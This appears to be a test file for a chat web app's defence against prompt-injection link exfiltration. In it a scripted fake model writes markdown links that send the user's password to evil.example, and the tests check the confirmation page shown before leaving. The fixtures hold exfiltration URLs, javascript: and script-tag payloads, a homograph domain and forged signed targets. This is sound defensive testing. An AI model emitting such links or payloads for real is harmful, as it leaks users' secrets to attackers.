"""A link whose words differ from its address, or that carries what was said away: the host is shown, and leaving asks.

G3 of prompt injection. The other site is real: it hears something only once somebody presses "Go".
"""

from collections.abc import Iterator
from html import unescape
from urllib.parse import quote

import pytest
from django.core import signing
from playwright.async_api import Browser, Page, expect

from tests.e2e.talk import answers, begin, is_answered
from tests.e2e.test_copying import CLIPBOARD, clipboard, copy_selection, select_all
from tests.fake_llama import FakeLlama, says
from tests.people import Visitor
from tests.scripted_http import ScriptedHTTP
from web.markdown.blocks import render_blocks
from web.markdown.departure import departure, destination
from web.markdown.stream import MarkdownStream

SECRET = "My password is Quetzalcoatl77, and my sister lives in Oaxaca"
LONG = "https://evil.example/?d=" + quote(SECRET * 3)
NO_LINK = "There is nothing behind this link."
ANSWER = f"""Sign in at [bank.example](https://evil.example/in) or [your bank]({LONG}).

Read [the museum](https://museum.example/) and <https://good.example/a>.
"""


@pytest.fixture
def evil() -> Iterator[ScriptedHTTP]:
    """The other site."""
    with ScriptedHTTP() as site:
        yield site


def path_of(html: str) -> str:
    """Our page that the first link of `html` leads to."""
    return unescape(html.split('href="', 1)[1].split('"', 1)[0])


def test_letter_by_letter_the_same_links_ask_as_in_the_whole() -> None:
    stream = MarkdownStream()
    for letter in ANSWER:
        stream.feed(letter)
        stream.changes()
    stream.finish()
    assert stream.blocks == render_blocks(ANSWER)
    assert "".join(stream.blocks).count('href="/leave/?to=') == 2
    assert 'href="https://museum.example/"' in stream.blocks[1]


def test_no_link_but_that_page_leads_into_the_site() -> None:
    hostile = "[a](/leave/?to=http) [b](/account/logout/) [c](leave:x) <a href='/leave/?to=http'>d</a>"
    assert "<a" not in "".join(render_blocks(hostile))


def test_the_page_shows_host_and_address_and_leads_nowhere_by_itself(bob: Visitor) -> None:
    page = bob.get(path_of(render_blocks(f"[your bank]({LONG})")[0]))
    assert page.status_code == 200
    assert "location" not in page.headers
    assert "refresh" not in page.headers
    assert "http-equiv" not in page.text
    assert page.headers["referrer-policy"] == "no-referrer"
    assert "noindex" in page.headers["x-robots-tag"]
    assert "set-cookie" not in page.headers
    assert '<h1><bdi dir="ltr">evil.<wbr>example</bdi></h1>' in page.text
    assert f'href="{LONG}" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer"' in page.text
    assert SECRET * 3 in unescape(page.text)


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://xn--pple-43d.com/", ["xn--pple-43d.com", "\u0430pple.com", "those of another alphabet"]),
        ("https://bank.example@evil.example/", ["Go to evil.example<", "before the @"]),
        ("https://evil.example:4444/a", ["Go to evil.example:4444"]),
        ("http://[2001:db8::1]/", ["Go to [2001:db8::1]"]),
        ("https://evil.example/?q=%3Cscript%3Ealert(1)%3C/script%3E%E2%80%AE", ["&lt;script&gt;alert(1)"]),
    ],
)
def test_the_page_names_the_host_as_it_is(bob: Visitor, address: str, shown: list[str]) -> None:
    page = bob.get(departure(address))
    assert page.status_code == 200
    assert "<script>" not in page.text
    assert "\u202e" not in page.text
    for one in shown:
        assert one in page.text


def signed(address: str) -> str:
    return departure(address).partition("?to=")[2]


FORGED = {
    "none": "",
    "empty": "?to=",
    "not signed": "?to=https://evil.example/",
    "a signature of its own": "?to=https://evil.example/:" + "x" * 43,
    "signed for another address": "?to=" + signed("https://good.example/").replace("good", "evil"),
    "signed for something else": "?to=" + quote(signing.Signer(salt="other").sign("https://evil.example/")),
    "a script": "?to=" + signed("javascript:alert(1)"),
    "data": "?to=" + signed("data:text/html,x"),
    "mail": "?to=" + signed("mailto:a@evil.example"),
    "no host": "?to=" + signed("https:///x"),
    "ours": "?to=" + signed("/account/logout/"),
    "too long": "?to=" + signed("https://evil.example/" + "x" * 3_000),
    "half an address": "?to=" + signed("http://["),
    "twice": "?to=" + signed("https://good.example/") + "&to=https://evil.example/",
    "odd port": "?to=" + signed("https://evil.example:port/"),
}


@pytest.mark.parametrize("name", FORGED)
def test_an_address_that_is_not_ours_to_show_is_a_calm_page(bob: Visitor, name: str) -> None:
    page = bob.get("/leave/" + FORGED[name])
    assert page.status_code == 404
    assert NO_LINK in page.text
    assert "evil" not in page.text
    assert "noindex" in page.headers["x-robots-tag"]


def test_the_longest_address_of_a_link_can_be_shown(bob: Visitor) -> None:
    address = "https://evil.example/?" + "&" * 1_970
    assert destination(bob.get(departure(address)).url.params["to"]) == address
    assert bob.get(departure(address)).status_code == 200


async def test_g3_leaving_asks_while_it_is_written_and_after_and_copies_have_the_address(
    page: Page, fake_llama: FakeLlama, evil: ScriptedHTTP
) -> None:
    address = f"{evil.url}/?d={quote(SECRET)}"
    fake_llama.script(says(f"Sign in at [bank.example]({address}) now.", chunk="char"))
    await page.context.grant_permissions(CLIPBOARD)
    await begin(page, SECRET)
    await is_answered(page)
    await assert_asks(page, address, evil)
    await select_all(page, answers(page))
    text, html = await copy_selection(page)
    assert text == "Sign in at bank.example now."
    assert f'<a href="{address}">bank.example</a>' in html
    await page.get_by_role("button", name="Copy as text").click()
    await expect(page.locator("#status")).to_have_text("Copied")
    assert await clipboard(page) == f"Sign in at bank.example ({address}) now."
    await page.emulate_media(media="print")
    after = "getComputedStyle(document.querySelector('.message-answer .prose a'), '::after').content"
    assert address in await page.evaluate(after)
    await page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert address in await page.evaluate(after)
    await page.emulate_media(media="screen")
    await page.reload()
    await assert_asks(page, address, evil, go=True)


async def assert_asks(page: Page, address: str, evil: ScriptedHTTP, go: bool = False) -> None:
    link = answers(page).locator("a")
    await expect(answers(page).locator(".link-host")).to_have_text("127.0.0.1")
    assert set((await link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
    async with page.context.expect_page() as opened:
        await link.click()
    asking = await opened.value
    await expect(asking.get_by_role("heading", level=1)).to_have_text(evil.url.removeprefix("http://"))
    await expect(asking.locator(".address").first).to_have_text(address)
    await asking.wait_for_load_state("networkidle")
    assert evil.asked == []
    if go:
        await asking.get_by_role("link", name="Go to").click()
        await asking.wait_for_url(address)
        assert evil.asked[0].params == {"d": SECRET}
        assert "referer" not in {name.lower() for name in evil.asked[0].headers}
    await asking.close()


async def test_g3_leaving_a_shared_copy_asks(page: Page, browser: Browser, fake_llama: FakeLlama) -> None:
    fake_llama.script(says(ANSWER))
    await begin(page, "Where?")
    await is_answered(page)
    await page.get_by_role("link", name="Share", exact=True).click()
    await page.get_by_role("button", name="Make a link").click()
    address = await page.locator("[data-share-address]").input_value()
    async with await browser.new_context(java_script_enabled=False) as context:
        stranger = await context.new_page()
        await stranger.goto(address)
        async with context.expect_page() as opened:
            await stranger.get_by_role("link", name="bank.example").click()
        asking = await opened.value
        await expect(asking.get_by_role("heading", level=1)).to_have_text("evil.example")
        await asking.get_by_role("link", name="Back").click()
        await asking.wait_for_url("**/")
